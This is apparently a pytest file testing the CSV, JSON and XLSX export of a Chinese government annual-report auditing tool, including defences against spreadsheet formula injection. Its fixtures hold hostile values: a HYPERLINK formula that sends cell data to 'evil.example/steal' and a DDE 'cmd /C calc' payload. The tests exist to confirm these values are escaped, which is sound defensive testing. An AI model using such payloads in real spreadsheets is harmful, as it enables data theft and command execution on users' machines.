"""``nianbao export`` on a real store: CSV read back with Python's csv module
(BOM, the 14 Chinese headers in order, formula-injection-safe cells), every
filter narrowing the rows, JSON with English keys, XLSX opened with openpyxl.

The store holds the project's sample reports audited through the pipeline,
plus one agency and finding whose text came "from the internet" and starts
with spreadsheet formula characters.
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from audit.cli import main
from audit.engine import Finding
from audit.export import FINDING_COLUMNS, safe_cell, write_findings
from audit.sample import SampleReport
from audit.store import Store
from test_store import NIANBAO, crawl, fixed_sample, late_sample, new_store

HEADERS = ["机关", "类型", "地区", "年度", "规则", "级别", "问题描述", "位置", "来源链接", "发布日期", "状态", "首次发现", "最近发现", "复核意见"]
JSON_KEYS = {"fingerprint", "agency", "agency_type", "region", "year", "rule", "severity", "message", "location",
             "source_url", "published", "status", "first_seen", "last_seen", "review"}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

HOSTILE_AGENCY = {"id": "evil", "name": '=HYPERLINK("http://evil.example/","示例局")', "type": "-department",
                  "region": "@示例区", "url": "http://evil.example/"}
HOSTILE_MESSAGE = '=HYPERLINK("http://evil.example/steal?d="&A1,"点击查看年报")'
HOSTILE = [
    Finding("TXT-001", "warning", HOSTILE_MESSAGE, {"table": "+cmd|' /C calc'!A0"}, {}, "hostile-1"),
    Finding("TXT-002", "info", "\t=1+1 以制表符开头的描述", {}, {}, "hostile-2"),
    Finding("TXT-003", "info", "\r=2+2 以回车开头的描述", {}, {}, "hostile-3"),
    Finding("TXT-004", "info", "-3+3 以减号开头的描述", {}, {}, "hostile-4"),
    Finding("TXT-005", "info", "@SUM(1,2) 以@开头的描述", {}, {}, "hostile-5"),
]


def township_sample() -> SampleReport:
    town = SampleReport(agency="示例镇人民政府", published="2025-01-10", fee_statement="本年度无其他需要报告的事项。")
    town.table3["granted"][1:6] = [None] * 5
    return town


@pytest.fixture(scope="module")
def db_path(tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("export") / "nianbao.db"
    store = new_store(path)
    crawl(store, "jiaotong", 2024, late_sample())
    crawl(store, "jiaotong", 2024, fixed_sample())  # TAB-102 resolved, PUB-002 open, PUB-004 new
    crawl(store, "zhen", 2024, township_sample())  # FEE-001, TAB-002
    crawl(store, "zhen", 2023, None)  # PUB-001
    crawl(store, "shengtai", 2024, SampleReport())  # clean
    store.upsert_agencies([HOSTILE_AGENCY])
    store.record_findings(agency_id="evil", year=2024, findings=HOSTILE, run_id=None, source_url="-1+1 http://evil.example/")
    pub002 = [r for r in store.findings(rule="PUB-002")][0]["fingerprint"]
    store.review(pub002, "dismissed", "=机关说明：门户网站故障", "王科长", now="2025-03-01T09:00:00+00:00")
    store.close()
    return path


def export(db_path: Path, *args: str) -> bytes:
    result = CliRunner().invoke(main, ["export", "--db", str(db_path), *args], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return result.stdout_bytes


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "Excel and WPS need the UTF-8 BOM"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_csv_has_bom_chinese_headers_and_all_findings(db_path):
    data = export(db_path)
    assert b"\r\n" in data  # CRLF rows, as Excel writes them
    rows = read_csv(data)
    assert rows[0] == HEADERS
    body = [dict(zip(HEADERS, r)) for r in rows[1:]]
    assert all(len(r) == 14 for r in rows)
    assert len(body) == len(Store(db_path).findings()) == 12
    late = [r for r in body if r["规则"] == "PUB-002"][0]
    assert late["机关"] == "示例县交通运输局" and late["类型"] == "部门" and late["地区"] == "示例县"
    assert late["年度"] == "2024" and late["级别"] == "错误" and late["状态"] == "未整改"
    assert late["来源链接"] == "http://jiaotong.example.gov.cn/nb/2024.txt" and late["发布日期"] == "2025-02-18"
    assert late["问题描述"].startswith("逾期发布：")
    assert late["复核意见"] == "驳回：=机关说明：门户网站故障（王科长，2025-03-01）"
    resolved = [r for r in body if r["规则"] == "TAB-102"]
    assert {r["状态"] for r in resolved} == {"已解决"} and {r["位置"] for r in resolved} == {"表三 “自然人”列", "表三 “总计”列"}


def test_csv_cells_never_start_a_formula(db_path):
    rows = read_csv(export(db_path))
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), repr(cell)
    hostile = {r[6]: dict(zip(HEADERS, r)) for r in rows[1:] if r[2] == "'@示例区"}
    assert len(hostile) == 5
    link = hostile["'" + HOSTILE_MESSAGE]  # the =HYPERLINK(...) text, as text
    assert link["机关"] == "'" + HOSTILE_AGENCY["name"]
    assert link["类型"] == "'-department"
    assert link["来源链接"] == "'-1+1 http://evil.example/"
    assert link["位置"] == "'+cmd|' /C calc'!A0"
    assert {"'\t=1+1 以制表符开头的描述", "'\r=2+2 以回车开头的描述", "'-3+3 以减号开头的描述", "'@SUM(1,2) 以@开头的描述"} <= set(hostile)


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"])
def test_safe_cell_neutralises_each_formula_start(value):
    assert safe_cell(value) == "'" + value
    assert safe_cell("年报" + value) == "年报" + value
    assert safe_cell(None) == "" and safe_cell(2024) == "2024"


FILTERS = [
    (["--year", "2023"], lambda r: r["年度"] == "2023"),
    (["--region", "示例县"], lambda r: r["地区"] == "示例县"),
    (["--agency", "zhen"], lambda r: r["机关"] == "示例镇人民政府"),
    (["--rule", "TAB-102"], lambda r: r["规则"] == "TAB-102"),
    (["--severity", "warning"], lambda r: r["级别"] == "警告"),
    (["--status", "resolved"], lambda r: r["状态"] == "已解决"),
    (["--status", "new", "--severity", "error"], lambda r: r["状态"] == "新发现" and r["级别"] == "错误"),
    (["--year", "2024", "--region", "示例县", "--rule", "PUB-002"], lambda r: r["规则"] == "PUB-002"),
]


@pytest.mark.parametrize("args,keep", FILTERS, ids=[" ".join(a) for a, _ in FILTERS])
def test_each_filter_narrows_the_export(db_path, args, keep):
    everything = [dict(zip(HEADERS, r)) for r in read_csv(export(db_path))[1:]]
    filtered = [dict(zip(HEADERS, r)) for r in read_csv(export(db_path, *args))[1:]]
    expected = [r for r in everything if keep(r)]
    assert filtered == expected
    assert 0 < len(filtered) < len(everything)


def test_filter_matching_nothing_gives_only_the_header(db_path):
    rows = read_csv(export(db_path, "--year", "1999"))
    assert rows == [HEADERS]


def test_json_export_uses_english_keys_and_codes(db_path):
    records = json.loads(export(db_path, "--format", "json"))
    assert len(records) == 12
    assert all(set(r) == JSON_KEYS for r in records)
    late = [r for r in records if r["rule"] == "PUB-002"][0]
    assert (late["severity"], late["status"], late["agency_type"], late["agency"]) == ("error", "open", "department", "示例县交通运输局")
    assert late["review"] == {"decision": "dismissed", "note": "=机关说明：门户网站故障", "reviewer": "王科长", "at": "2025-03-01T09:00:00+00:00"}
    tab = [r for r in records if r["rule"] == "TAB-102"]
    assert {json.dumps(r["location"], sort_keys=True) for r in tab} == {
        json.dumps({"table": "table3", "column": c}, sort_keys=True) for c in ("natural_person", "total")}
    assert [r["message"] for r in records if r["fingerprint"] == "hostile-1"] == [HOSTILE_MESSAGE]  # JSON is data, not cells
    assert [r["rule"] for r in json.loads(export(db_path, "--format", "json", "--agency", "zhen", "--year", "2023"))] == ["PUB-001"]


def test_xlsx_export_frozen_header_widths_and_no_formulas(db_path, tmp_path):
    out = tmp_path / "问题清单.xlsx"
    result = CliRunner().invoke(main, ["export", "--db", str(db_path), "--format", "xlsx", "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert "已导出 12 项问题" in result.output
    book = load_workbook(out)
    sheet = book.active
    assert sheet.title == "审核问题"
    assert sheet.freeze_panes == "A2"
    assert [c.value for c in sheet[1]] == HEADERS
    assert all(c.font.bold for c in sheet[1])
    for letter, (_, _, width) in zip("ABCDEFGHIJKLMN", FINDING_COLUMNS):
        assert sheet.column_dimensions[letter].width == width
    assert sheet.column_dimensions["G"].width >= 60  # the message column is the wide one
    assert sheet.max_row == 13
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            if isinstance(cell.value, str):
                assert not cell.value.startswith(FORMULA_STARTS), (cell.coordinate, cell.value)
    messages = [row[6].value for row in sheet.iter_rows(min_row=2)]
    assert "'" + HOSTILE_MESSAGE in messages
    years = {row[3].value for row in sheet.iter_rows(min_row=2)}
    assert years == {2023, 2024}  # numbers stay numbers


def test_xlsx_needs_an_output_file(db_path):
    result = CliRunner().invoke(main, ["export", "--db", str(db_path), "--format", "xlsx"])
    assert result.exit_code == 2 and "xlsx 格式需要 --out" in result.output


def test_export_through_the_console_script_to_a_file(db_path, tmp_path):
    out = tmp_path / "findings.csv"
    result = subprocess.run([*NIANBAO, "export", "--db", str(db_path), "--out", str(out), "--severity", "error"],
                            capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stderr
    assert "已导出" in result.stderr
    with open(out, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == HEADERS and {r[5] for r in rows[1:]} == {"错误"}
    assert out.read_bytes().startswith(b"\xef\xbb\xbf")


def test_write_findings_rejects_an_unknown_format():
    with pytest.raises(ValueError):
        write_findings([], "ods", io.BytesIO())
